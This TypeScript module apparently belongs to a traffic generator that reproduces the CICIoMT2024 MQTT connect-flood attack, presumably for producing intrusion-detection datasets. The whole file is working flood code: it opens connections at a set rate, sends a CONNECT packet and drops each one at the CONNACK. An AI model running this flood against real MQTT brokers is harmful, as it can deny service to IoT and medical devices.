import { generate } from 'mqtt-packet'
import { z } from 'zod'
import { addressParam, defineAttack, rateParam } from './attack.ts'

/**
 * A connect flood (CICIoMT2024 Connect_Flood): new connections at a high rate, each sending a bare
 * CONNECT and dropping as soon as the CONNACK comes.
 */
export const connectFloodAttack = defineAttack({
  type: 'connect-flood',
  summary: 'open connections at a high rate, CONNECT, drop at the CONNACK',
  params: z.object({ address: addressParam('203.0.113.30'), rate: rateParam(100) }).strict(),
  target: () => null,
  async run(attacker, params, durationMs) {
    await attacker.repeat(params.rate, durationMs, (i) => {
      const stream = attacker.raw(params.address)
      stream.once('data', () => stream.destroy())
      stream.write(generate({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: 4, clean: true, clientId: `cf${i}`, keepalive: 60 }))
    })
  },
})
